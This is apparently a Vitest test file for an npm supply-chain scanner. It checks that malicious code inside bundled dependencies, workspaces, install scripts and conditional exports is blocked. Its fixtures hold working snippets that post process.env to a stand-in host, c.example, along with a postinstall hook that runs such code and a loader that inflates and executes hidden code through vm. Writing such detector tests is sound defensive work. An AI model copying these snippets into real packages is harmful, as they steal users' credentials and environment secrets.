/** Packages that travel inside another one are loaded by it as its own files are. */
import { expect, test } from 'vitest';
import { check } from '../../src/check.ts';
import { judge } from '../../src/judge.ts';
import { loadRules } from '../../src/load-rules.ts';
import { makePolicy } from '../../src/policy.ts';
import type { Level } from '../../src/types.ts';
import { packageOf, subjectsOf } from '../world.ts';

const rules = await loadRules();
const policy = makePolicy({ static: true, failOn: 'block', require: [] });

const CARRIES = { bundleDependencies: ['fmt'] };

function levelOf(
  files: Readonly<Record<string, string>>,
  manifest: Readonly<Record<string, unknown>> = CARRIES,
): Level {
  const world = { name: 'a carrier', manifest, files };
  const findings = subjectsOf(world).flatMap((subject) => check(rules, subject).value);
  return judge({ findings, gaps: [], policy, target: packageOf(world).id, static: true }).level;
}

const FMT = '{"name":"fmt","version":"1.0.0","main":"lib/i.js"}';
const SENDS = "require('https').request({host:'c.example',method:'POST'}).end(JSON.stringify(process.env))";

/** One of them has another one unpack a file of its own. */
const UNPACKING = {
  'index.js': "module.exports=require('fmt')",
  'node_modules/fmt/package.json': FMT,
  'node_modules/fmt/lib/i.js':
    "const { unpack } = require('low'); const fs = require('fs'); exports.tables = unpack(fs.readFileSync(__dirname + '/t.wasm'))",
  'node_modules/fmt/lib/t.wasm': '\u0000asm',
  'node_modules/fmt/node_modules/low/package.json': '{"name":"low","version":"1.0.0"}',
};

test.each<readonly [string, Readonly<Record<string, string>>, Level]>([
  [
    'what it loads',
    {
      'index.js': "module.exports=require('fmt')",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js': SENDS,
    },
    'block',
  ],
  [
    'what that loads, from a folder of the package',
    {
      'index.js': "require('./lib/a.js')",
      'lib/a.js': "require('fmt')",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js': "require('low/x.js')",
      'node_modules/fmt/node_modules/low/x.js': SENDS,
    },
    'block',
  ],
  [
    'what its install runs',
    {
      'index.js': '',
      'node_modules/fmt/package.json': '{"name":"fmt","version":"1.0.0","scripts":{"postinstall":"node tools/s.js"}}',
      'node_modules/fmt/tools/s.js': SENDS,
    },
    'block',
  ],
  [
    'an install that compiles',
    {
      'index.js': '',
      'node_modules/fmt/package.json':
        '{"name":"fmt","version":"1.0.0","scripts":{"install":"node-gyp rebuild","prepare":"node s.js"}}',
      'node_modules/fmt/s.js': SENDS,
    },
    'pass',
  ],
  [
    'what nobody loads',
    { 'index.js': "require('other')", 'node_modules/fmt/package.json': FMT, 'node_modules/fmt/lib/i.js': SENDS },
    'pass',
  ],
  [
    'a library that only defines something',
    {
      'index.js': "module.exports=require('fmt')",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js':
        "const cp=require('child_process');exports.run=(c)=>cp.spawn(c,[],{env:{...process.env}});exports.post=(u,b)=>fetch(u,{method:'POST',body:b})",
    },
    'pass',
  ],
])('%s', (_, files, level) => {
  expect(levelOf(files)).toBe(level);
});

/** What is loaded for a browser, another module system or nobody is harmless; what this one loads is not. */
const SEVERAL = {
  'node_modules/fmt/package.json': JSON.stringify({
    name: 'fmt',
    main: './web.js',
    type: 'module',
    imports: { '#send': './send.js' },
    exports: { '.': { browser: './web.js', node: { import: './node.js', require: './web.cjs' }, default: './web.js' } },
  }),
  'node_modules/fmt/web.js': 'export const x = 1',
  'node_modules/fmt/web.cjs': 'exports.x = 1',
  'node_modules/fmt/node.js': "import '#send'",
  'node_modules/fmt/send.js':
    "import { request } from 'node:https'; request({host:'c.example',method:'POST'}).end(JSON.stringify(process.env))",
};
const LOCAL = {
  'parts/log/package.json': '{"name":"@acme/log","version":"1.0.0","main":"src/main"}',
  'parts/log/src/main.js': SENDS,
};

test.each<readonly [string, Readonly<Record<string, unknown>>, Readonly<Record<string, string>>, Level]>([
  ['what a carried manifest gives to an import', CARRIES, { ...SEVERAL, 'index.mjs': "import 'fmt'" }, 'block'],
  ['what it gives to require', CARRIES, { ...SEVERAL, 'index.cjs': "require('fmt')" }, 'pass'],
  [
    'a dependency that is a folder',
    { dependencies: { '@acme/log': 'file:./parts/log' } },
    { ...LOCAL, 'index.js': "require('@acme/log')" },
    'block',
  ],
  [
    'a workspace',
    { workspaces: ['parts/*'], dependencies: { '@acme/log': '*' } },
    { ...LOCAL, 'index.js': "require('@acme/log')" },
    'block',
  ],
  [
    'what one of them unpacks and runs of a file of another',
    CARRIES,
    {
      ...UNPACKING,
      'node_modules/fmt/node_modules/low/index.js':
        "const vm = require('vm'); const { inflateRawSync } = require('zlib');\nexports.unpack = (all) => { const out = {}; for (const part of [all.subarray(8)]) out.t = vm.runInThisContext('(' + inflateRawSync(part).toString('utf8') + ')')(out, require); return out; }",
    },
    'block',
  ],
  [
    'what one of them unpacks, and reads as data',
    CARRIES,
    {
      ...UNPACKING,
      'node_modules/fmt/node_modules/low/index.js':
        "const { inflateRawSync } = require('zlib');\nexports.unpack = (all) => JSON.parse(inflateRawSync(all.subarray(8)).toString('utf8'))",
    },
    'pass',
  ],
  [
    'what one of them sends of what it is given',
    CARRIES,
    {
      'index.js': "const log = require('fmt'); log.write(process.env)",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js':
        "const https = require('https'); exports.write = (all) => https.request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(all))",
    },
    'block',
  ],
  ['a file among them', CARRIES, { 'index.js': "require('fmt')", 'node_modules/fmt.js': SENDS }, 'block'],
  ['a folder that only has the name', {}, { ...LOCAL, 'index.js': "require('@acme/log')" }, 'pass'],
])('%s', (_, manifest, files, level) => {
  const main = Object.keys(files).find((path) => path.startsWith('index'));
  expect(levelOf(files, { main, ...manifest })).toBe(level);
});
